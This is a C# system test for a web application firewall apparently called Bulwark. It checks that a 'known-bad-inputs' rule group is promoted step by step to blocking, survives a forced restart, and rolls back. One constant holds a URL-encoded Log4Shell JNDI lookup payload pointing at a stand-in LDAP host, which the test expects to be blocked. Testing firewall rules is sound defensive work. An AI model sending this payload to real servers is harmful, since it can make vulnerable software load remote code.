using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.Json.Nodes;
using Bulwark.SystemTests.Running;

namespace Bulwark.SystemTests;

/// <summary><c>waf promote</c> on a real process, which dies in between.</summary>
public sealed class PromotionTests
{
    private const string Attack = "/_matrix/client/v3/publicRooms?server=%24%7Bjndi:ldap://192.0.2.1/a%7D";
    private const string Group = "known-bad-inputs";
    private const int Clients = 30;

    [Fact]
    public async Task A_group_goes_to_block_step_by_step_stays_there_after_kill_9_and_goes_back_for_good()
    {
        await using var instance = await BulwarkInstance.StartAsync();

        await PromoteAsync(instance, 1);
        var skipped = await instance.VerbAsync("waf", "promote", Group, "--tier", "edge");
        Assert.Equal(1, skipped.ExitCode);
        Assert.Contains("step skipped, it blocks for 1 % of the clients as before. There is too little evidence: 0 clients,", skipped.Output, StringComparison.Ordinal);
        await PromoteAsync(instance, 10);
        await PromoteAsync(instance, 100);
        Assert.Equal(Clients, await RefusedAsync(instance, Attack));

        await RestartAsync(instance);
        Assert.Equal(Clients, await RefusedAsync(instance, Attack));
        Assert.Equal(100, (int?)await PromotionAsync(instance));
        Assert.Contains("blocks for 100 % of the clients since", (await instance.VerbAsync("waf", "status", "--tier", "edge")).Output, StringComparison.Ordinal);

        Assert.Equal(0, (await instance.VerbAsync("waf", "mode", Group, "count", "--tier", "edge")).ExitCode);
        await RestartAsync(instance);
        Assert.Equal(0, await RefusedAsync(instance, Attack));
        Assert.Null(await PromotionAsync(instance));

        var history = await instance.VerbAsync("history");
        foreach (var line in new[] { $"promote: {Group} of the edge blocks for 1 % of the clients", $"{Group} of the edge is no longer promoted: waf mode {Group} count  <- in force" })
            Assert.Contains(line, history.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_rollback_takes_a_step_back_and_apply_none()
    {
        await using var instance = await BulwarkInstance.StartAsync("""{ "loadBalancer": { "landingUrl": "https://example.org/one" } }""");
        await PromoteAsync(instance, 1);
        await PromoteAsync(instance, 10);
        var file = Path.Combine(instance.Data, "bulwark.jsonc");
        await File.WriteAllTextAsync(file, (await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken)).Replace("/one", "/two", StringComparison.Ordinal), TestContext.Current.CancellationToken);

        Assert.Equal(0, (await instance.VerbAsync("apply")).ExitCode);
        Assert.Equal(10, (int?)await PromotionAsync(instance));
        Assert.Equal(0, (await instance.VerbAsync("rollback")).ExitCode);
        Assert.Equal(0, (await instance.VerbAsync("rollback")).ExitCode);

        // The edge looks once a second.
        for (var i = 0; i < 100 && (int?)await PromotionAsync(instance) != 1; i++)
            await Task.Delay(TimeSpan.FromMilliseconds(100), TestContext.Current.CancellationToken);

        Assert.Equal(1, (int?)await PromotionAsync(instance));
    }

    private static async Task PromoteAsync(BulwarkInstance instance, int percent)
    {
        await RefusedAsync(instance, "/_matrix/client/versions");
        var step = await instance.VerbAsync("waf", "promote", Group, "--tier", "edge");
        Assert.Equal((0, ""), (step.ExitCode, step.Error));
        Assert.Contains(
            string.Create(CultureInfo.InvariantCulture, $"Firewall of the edge: group {Group}: blocks for {percent} % of the clients now"), step.Output, StringComparison.Ordinal);
    }

    private static async Task RestartAsync(BulwarkInstance instance)
    {
        await instance.KillAsync();
        await instance.StartProcessAsync();
    }

    private static async Task<JsonNode?> PromotionAsync(BulwarkInstance instance)
    {
        var status = JsonNode.Parse((await instance.VerbAsync("waf", "status", "--tier", "edge", "--json")).Output)!;
        return status["groups"]!.AsArray().Single(group => (string?)group!["name"] == Group)!["promotion"]?["percent"];
    }

    // Each client has an address of its own; gives how many were refused.
    private static async Task<int> RefusedAsync(BulwarkInstance instance, string target)
    {
        var refused = 0;
        for (var i = 1; i <= Clients; i++)
        {
            var address = IPAddress.Parse(string.Create(CultureInfo.InvariantCulture, $"127.1.0.{i}"));
            using var handler = instance.CreateEdgeHandler();
            handler.ConnectCallback = async (context, cancellationToken) =>
            {
                var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
                socket.Bind(new IPEndPoint(address, 0));
                await socket.ConnectAsync(IPAddress.Loopback, context.DnsEndPoint.Port, cancellationToken);
                return new NetworkStream(socket, ownsSocket: true);
            };
            using var client = new HttpClient(handler) { BaseAddress = instance.EdgeUrl };
            client.DefaultRequestHeaders.Add("User-Agent", "Element/1.11");
            using var answer = await client.GetAsync(target, TestContext.Current.CancellationToken);
            refused += answer.StatusCode == HttpStatusCode.Forbidden ? 1 : 0;
        }

        return refused;
    }
}
